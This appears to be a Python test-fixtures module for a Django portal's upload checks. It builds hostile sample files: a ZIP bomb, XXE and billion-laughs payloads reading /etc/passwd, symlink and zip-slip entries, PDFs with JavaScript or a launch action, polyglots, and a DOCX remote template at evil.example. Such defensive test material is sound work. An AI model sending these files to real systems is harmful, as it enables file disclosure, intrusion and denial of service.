"""Files for tests: whole pictures and documents, those that are not what they say, and rows that name them."""

import io
import struct
import zipfile
import zlib

from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from practices.enums import ConsentKind, FileKind
from practices.files import preparing
from practices.files.storage import IncomingFile
from practices.models import File, VersionFile
from tests.people import make_user

# Stands in what must not stay: in metadata, behind the end, in comments.
MARK = b"zqxmark"
SCRIPT = b"<script>zqxmark()</script>"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XMP = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf>zqxmark</rdf></x:xmpmeta>"


def sent(name, content):
    """A file as it comes with a request."""
    file = IncomingFile(name, "application/octet-stream", len(content), None)
    file.write(content)
    file.seek(0)
    return file


# Pictures


def picture(form="JPEG", size=(640, 480), mode="RGB", **saved):
    """A picture with a gradient, so that there is something to see."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, form, **saved)
    return out.getvalue()


def with_metadata(form):
    """A picture that tells where it was taken, and carries XMP, a comment and a small picture of itself."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()  # description
    exif[0x0112] = 6  # taken with the camera upright
    place = exif.get_ifd(0x8825)
    place.update({1: "N", 2: (23.0, 48.0, 37.0), 3: "E", 4: (90.0, 24.0, 45.0), 29: MARK.decode()})
    saved = {"exif": exif.tobytes(), "xmp": XMP}
    if form == "JPEG":
        saved["comment"] = MARK
    if form == "PNG":
        saved.pop("xmp")
    return picture(form, **saved)


def png_of(width, height):
    """A PNG of one bit per pixel: small as a file, however large it is drawn."""
    row = b"\0" * (1 + (width + 7) // 8)
    pack = zlib.compressobj(1)
    data = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()
    header = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*one) for one in ((b"IHDR", header), (b"IDAT", data), (b"IEND", b"")))


def _chunk(name, data):
    return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))


def moving(form, frames=3):
    images = [Image.new("RGB", (8, 8), (number, 0, 0)) for number in range(frames)]
    out = io.BytesIO()
    images[0].save(out, form, save_all=True, append_images=images[1:])
    return out.getvalue()


def gif_of_many_frames(count=20_000):
    head = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff"
    frame = b"!\xf9\x04\0\x01\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0"
    return head + frame * count + b";"


# Documents


def pdf(change=None):
    """A PDF with one empty page. ``change`` is called with the PdfWriter."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def acting(kind, **facts):
    """Lets a PdfWriter's document do something when it is opened."""

    def change(writer):
        values = {"/S": NameObject(kind)} | {f"/{key}": TextStringObject(value) for key, value in facts.items()}
        action = DictionaryObject({NameObject(key): value for key, value in values.items()})
        writer.root_object[NameObject("/OpenAction")] = action

    return change


def office(main, content_type, parts=(), *, relations="", change=None):
    """A DOCX or XLSX with the main part ``main``. ``parts``: {name: bytes}; ``change``: called with the ZipFile."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" '
        f'ContentType="{content_type}"/></Types>'
    )
    links = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="{main}"/></Relationships>'
    )
    held = {"[Content_Types].xml": types.encode(), "_rels/.rels": links.encode(), main: b"<document/>"} | dict(parts)
    if relations:
        folder, _slash, name = main.rpartition("/")
        held[f"{folder}/_rels/{name}.rels"] = relations.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in held.items():
            archive.writestr(name, content)
        if change:
            change(archive)
    return out.getvalue()


def docx(parts=(), **facts):
    return office("word/document.xml", DOCX_MAIN, parts, **facts)


def xlsx(parts=(), **facts):
    return office("xl/workbook.xml", XLSX_MAIN, parts, **facts)


def linked_to(kind, target):
    """Relationships of a main part that lead outside."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def bomb():
    """A DOCX of some 100 KB that unpacks to 10 GB: its directory names one part of 10 MB a thousand times."""
    return _named_often(docx({"word/media/00000.bin": b"\0" * 10 * 1024**2}), 1000)


def of_many_parts():
    """An XLSX whose directory names 60,000 parts, as many as there may be without another format."""
    return _named_often(xlsx({"xl/00000.xml": b"<a/>"}), 60_000)


def _named_often(content, count):
    """``content``, a ZIP file whose last part is called 00000, with a directory that names it ``count`` times."""
    end = content.rindex(b"PK\x05\x06")
    number, size, start = struct.unpack("<HII", content[end + 10 : end + 20])
    rows = content[start : start + size]
    last = rows[rows.rindex(b"PK\x01\x02") :]
    rows += b"".join(last.replace(b"00000", b"%05d" % more) for more in range(1, count))
    number += count - 1
    return content[:start] + rows + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, number, number, len(rows), start, 0)


def linking(archive):
    link = zipfile.ZipInfo("word/media/link.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    archive.writestr(link, "/etc/passwd")


def adding(name, content=b"x"):
    return lambda archive: archive.writestr(name, content)


def zipped(name, content):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


LAUGHS = b'<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;&l;">]><a>&m;&m;</a>'
READS_A_FILE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def gauntlet():
    """The set of 45 files that any portal is sent one day: [(name, bytes, whether it may be kept)].

    What may be kept has been made harmless by the intake: MARK is nowhere in it.
    """
    whole, plain = pdf(), picture()
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="zqxmark()"/>'
    page, php = b"<html>" + SCRIPT + b"</html>", b"<?php zqxmark(); ?>"
    inner = docx()
    return [
        ("drawing.svg", svg, False),
        ("drawing.png", svg, False),
        ("page.html", page, False),
        ("page.jpg", page, False),
        ("page.pdf", page, False),
        ("code.js", b"zqxmark()", False),
        ("code.png", b"zqxmark()", False),
        ("code.php", php, False),
        ("code.jpg", php, False),
        ("shell.jpg.exe", b"MZ" + MARK, False),
        ("polyglot.gif", b"GIF89a/*" + SCRIPT + b"*/", False),
        ("polyglot-gif.png", b"GIF89a/*" + SCRIPT + b"*/", False),
        ("polyglot.png", picture("PNG") + SCRIPT, True),
        ("polyglot.jpg", picture("JPEG", comment=SCRIPT), True),
        ("polyglot.pdf", whole.replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + SCRIPT + b"\n", 1), False),
        ("behind.pdf", whole + page, False),
        ("archive.pdf", whole + zipped("a.txt", MARK), False),
        ("running.pdf", pdf(acting("/JavaScript", JS="zqxmark()")), False),
        ("carrying.pdf", pdf(lambda writer: writer.add_attachment("a.exe", MARK)), False),
        ("launching.pdf", pdf(acting("/Launch", F="calc.exe")), False),
        ("locked.pdf", pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128")), False),
        ("cut.pdf", whole[: len(whole) // 2], False),
        ("really-a.docx", whole, False),
        ("really-a.pdf", inner, False),
        ("plain-zip.docx", zipped("a.txt", MARK), False),
        ("bomb.docx", bomb(), False),
        ("many.xlsx", of_many_parts(), False),
        ("nested.docx", docx({"word/media/inner.bin": zipped("a.txt", MARK)}), False),
        ("matryoshka.docx", docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": inner})}), False),
        ("link.docx", docx(change=linking), False),
        ("climbing.docx", docx(change=adding("../../evil.txt")), False),
        ("absolute.xlsx", xlsx(change=adding("/etc/evil.txt")), False),
        ("entities.docx", docx({"word/document.xml": READS_A_FILE}), False),
        ("laughs.xlsx", xlsx({"xl/sharedStrings.xml": LAUGHS}), False),
        ("wide.docx", docx({"word/styles.xml": READS_A_FILE.decode().encode("utf-16")}), False),
        ("macros.docx", office("word/document.xml", MACRO_MAIN), False),
        ("vba.docx", docx({"word/vbaProject.bin": MARK}), False),
        ("template.docx", docx(relations=linked_to("attachedTemplate", "http://evil.example/t.dotm")), False),
        ("dde.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}), False),
        ("huge.png", png_of(30_000, 30_000), False),
        ("film.png", gif_of_many_frames(), False),
        ("moving.png", moving("PNG"), False),
        ("place.jpg", with_metadata("JPEG"), True),
        ("cut.jpg", plain[: len(plain) // 2], False),
        ("phone.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + MARK, False),
    ]


# Rows


def make_attached(version, *, kind=FileKind.IMAGE, is_prepared=True, uploader=None, **facts):
    """A file of an unpublished ``version``, described and prepared; ``facts``: columns of VersionFile and of File."""
    said = {"caption": "Mothers at the well", "alt": "Two women draw water", "credit": "Ministry of Water"}
    said |= {name: facts.pop(name) for name in [*said, "licence", "position"] if name in facts}
    file = make_file(kind=kind, is_prepared=is_prepared, uploader=uploader, **facts)
    return VersionFile.objects.create(version=version, file=file, **said)


def make_file(*, kind=FileKind.PDF, is_prepared=True, uploader=None, **facts):
    """A file that nothing names yet, prepared; ``facts``: columns of File."""
    columns = {"kind": kind, "name": "well.webp", "checksum": "0" * 64, "uploader": uploader or make_user()}
    if kind == FileKind.IMAGE:
        content = picture("WEBP", (64, 48))
        columns |= {"width": 64, "height": 48, "consent_kind": ConsentKind.NOBODY}
    else:
        content, columns["name"] = pdf(), f"report.{kind}"
    columns |= {"size": len(content)} | facts
    file = File(**columns)
    file.stored = default_storage.save(f"files/{file.key.hex}", ContentFile(content))
    if is_prepared:
        file.renditions = preparing.made(file) if file.is_image else {}
        file.prepared_at = timezone.now()
    file.save()
    return file
